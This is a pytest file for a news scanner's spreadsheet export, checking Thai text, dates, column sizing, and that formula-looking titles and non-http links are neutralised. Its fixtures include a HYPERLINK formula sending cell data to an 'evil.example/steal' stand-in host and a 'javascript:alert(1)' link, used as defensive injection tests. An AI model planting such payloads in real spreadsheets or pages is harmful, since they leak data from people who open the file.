"""``scanner export signals|items --format xlsx`` read back with openpyxl, and ``--format csv --excel``:
Thai text, frozen header, sized columns, clickable http(s) links only, real dates, and scraped text
that looks like a formula kept as text."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from scanner.cli import cli
from scanner.spreadsheet import Column, write_workbook
from scanner.store import Store
from tests import digest_fixtures as fx

THAI = "ดีอีเตือนภัยบัญชีม้า แก๊งคอลเซ็นเตอร์ระบาดหนัก"
FORMULA = '=HYPERLINK("https://evil.example/steal?d="&A1,"คลิกเพื่อรับเงิน")'


@pytest.fixture
def project(store: Store, tmp_path: Path) -> dict[str, Any]:
    fx.insert_sources(store)
    ids = {
        "thai": fx.insert_item(store, "thaigov", THAI, "2025-03-18T03:30:00+00:00",
                               "https://www.thaigov.go.th/news/contents/details/92011"),
        "formula": fx.insert_item(store, "mdes", FORMULA, "2025-03-19T17:15:00+00:00", "https://www.mdes.go.th/n/1"),
        "sum": fx.insert_item(store, "mdes", "=1+1", "2025-03-20T01:00:00+00:00", "javascript:alert(1)"),
        "nolink": fx.insert_item(store, "dga", "@SUM(A1:A9) สพร.", "2025-03-21T02:00:00+00:00", None,
                                 relevant=None),
    }
    sid = fx.add_signal(store, "บัญชีม้าและแก๊งคอลเซ็นเตอร์", "2025-W10", "2025-W12",
                        keywords={"th": ["บัญชีม้า", "แก๊งคอลเซ็นเตอร์"], "en": ["mule accounts"]})
    fx.assign(store, ids["thai"], sid, 0.9, "2025-W12")
    fx.assign(store, ids["sum"], sid, 0.95, "2025-W12")  # the most central member has no http(s) link
    fx.assign(store, ids["formula"], sid, 0.5, "2025-W12")
    fx.write_config(tmp_path)
    return {"ids": ids, "signal": sid}


def run(tmp_path: Path, *args: str) -> Any:
    return CliRunner().invoke(cli, ["--config", str(tmp_path / "sources.yaml"), "--db", str(tmp_path / "signals.db"),
                                    "export", *args])


def read(path: Path) -> tuple[Any, list[str], dict[str, dict[str, Any]]]:
    ws = openpyxl.load_workbook(path)[path.stem]
    header = [c.value for c in ws[1]]
    rows = {str(r[0].value): dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=2)}
    return ws, header, rows


def test_items_workbook(project: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "items.xlsx"
    result = run(tmp_path, "items", "--format", "xlsx", "--output", str(out))
    assert result.exit_code == 0, result.output
    assert result.output == f"wrote 4 items to {out}\n"
    ws, header, rows = read(out)
    assert header == ["id", "url", "title", "published", "lang", "source_id", "relevance", "relevant", "topics",
                      "signal_id", "story_id", "duplicate_of", "novelty"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:M5"
    assert all(c.font.bold for c in ws[1])
    ids = project["ids"]
    thai = rows[str(ids["thai"])]
    assert thai["title"].value == THAI and thai["title"].data_type == "s"
    # Dates are real dates, in settings.timezone (Asia/Bangkok, UTC+7).
    assert thai["published"].is_date and thai["published"].value == datetime(2025, 3, 18, 10, 30)
    assert thai["published"].number_format == "yyyy-mm-dd hh:mm"
    assert rows[str(ids["formula"])]["published"].value == datetime(2025, 3, 20, 0, 15)
    # http(s) links are clickable; javascript: and missing ones are not.
    assert thai["url"].hyperlink.target == "https://www.thaigov.go.th/news/contents/details/92011"
    assert thai["url"].style == "Hyperlink"
    js = rows[str(ids["sum"])]
    assert js["url"].value == "javascript:alert(1)" and js["url"].hyperlink is None
    assert rows[str(ids["nolink"])]["url"].value is None and rows[str(ids["nolink"])]["url"].hyperlink is None
    # Formula-looking titles are text cells, not formulas.
    for key, title in (("formula", FORMULA), ("sum", "=1+1"), ("nolink", "@SUM(A1:A9) สพร.")):
        cell = rows[str(ids[key])]["title"]
        assert (cell.value, cell.data_type) == (title, "s")
    # Numbers are numbers, booleans booleans, empty is empty.
    assert thai["id"].data_type == "n" and thai["relevance"].value == pytest.approx(0.9)
    assert thai["relevant"].value is True and rows[str(ids["nolink"])]["relevant"].value is None
    assert thai["signal_id"].value == project["signal"]
    # Columns are sized to what they hold (Thai combining marks take no width), within bounds.
    widths = {h: ws.column_dimensions[openpyxl.utils.get_column_letter(i)].width for i, h in enumerate(header, 1)}
    assert 40 <= widths["title"] <= 60 and widths["lang"] == 6 and 16 <= widths["published"] <= 20
    assert widths["url"] > widths["source_id"]


def test_items_workbook_of_relevant_items_only(project: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "items.xlsx"
    assert run(tmp_path, "items", "--relevant", "--format", "xlsx", "-o", str(out)).exit_code == 0
    _, _, rows = read(out)
    assert sorted(rows) == sorted(str(i) for k, i in project["ids"].items() if k != "nolink")


def test_signals_workbook(project: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "signals.xlsx"
    result = run(tmp_path, "signals", "--format", "xlsx", "--output", str(out))
    assert result.exit_code == 0, result.output
    assert result.output == f"wrote 1 signals to {out}\n"
    ws, header, rows = read(out)
    assert header[-2:] == ["example", "example_url"] and ws.freeze_panes == "A2"
    row = rows[str(project["signal"])]
    assert row["title"].value == "บัญชีม้าและแก๊งคอลเซ็นเตอร์"
    assert row["keywords_th"].value == "บัญชีม้า แก๊งคอลเซ็นเตอร์"
    assert row["first_seen"].is_date and row["first_seen"].value == datetime(2025, 3, 3)  # Monday of 2025-W10
    assert row["last_seen"].value == datetime(2025, 3, 17) and row["last_seen"].number_format == "yyyy-mm-dd"
    # The most representative member with an http(s) link (the javascript: one is skipped).
    assert row["example_url"].hyperlink.target == "https://www.thaigov.go.th/news/contents/details/92011"
    assert row["items"].value == 3


def test_csv_for_excel_has_a_bom_and_neutral_formulas(project: dict[str, Any], tmp_path: Path) -> None:
    plain = run(tmp_path, "items", "--format", "csv").output
    assert not plain.startswith("\ufeff")
    assert FORMULA in [r["title"] for r in csv.DictReader(io.StringIO(plain))]  # plain CSV is for tools: as stored
    out = tmp_path / "items.csv"
    assert run(tmp_path, "items", "--format", "csv", "--excel", "-o", str(out)).exit_code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
    ids = project["ids"]
    assert rows[str(ids["thai"])]["title"] == THAI
    assert rows[str(ids["formula"])]["title"] == "'" + FORMULA
    assert rows[str(ids["sum"])]["title"] == "'=1+1"
    sig = run(tmp_path, "signals", "--format", "csv", "--excel").output
    assert sig.startswith("\ufeffid,title,") and "บัญชีม้าและแก๊งคอลเซ็นเตอร์" in sig


@pytest.mark.parametrize(("args", "message"), [
    (["items", "--format", "xlsx"], "Error: an xlsx workbook is a file: give --output FILE.xlsx\n"),
    (["signals", "--format", "json", "--excel"],
     "Error: --excel goes with --format csv (an xlsx workbook is always read correctly by Excel)\n"),
    (["items", "--format", "xlsx", "-o", "items.xls"],
     "Error: items.xls: an Excel workbook's name ends in .xlsx (Excel refuses to open it otherwise)\n"),
])
def test_spreadsheet_usage_errors(project: dict[str, Any], tmp_path: Path, args: list[str], message: str) -> None:
    result = run(tmp_path, *args)
    assert result.exit_code == 2 and result.output == message


def test_large_exports_stream_and_text_is_made_storable(tmp_path: Path) -> None:
    rows = ({"id": n, "title": f"ข่าว {n}\x00\x0b" + "ก" * (40_000 if n == 0 else 1), "day": "2025-W12",
             "when": "not a date"} for n in range(3000))
    columns = [Column("id", "int"), Column("title"), Column("day", "week"), Column("when", "datetime")]
    assert write_workbook(tmp_path / "big.xlsx", "big", columns, rows, "UTC") == 3000
    wb = openpyxl.load_workbook(tmp_path / "big.xlsx", read_only=True)
    values = list(wb["big"].iter_rows(min_row=2, values_only=True))
    wb.close()
    assert len(values) == 3000
    assert len(values[0][1]) == 32_767 and "\x00" not in values[0][1]
    assert values[2999][1] == "ข่าว 2999ก" and values[5][2] == datetime(2025, 3, 17) and values[5][3] == "not a date"
    assert isinstance(values[5][2], date)
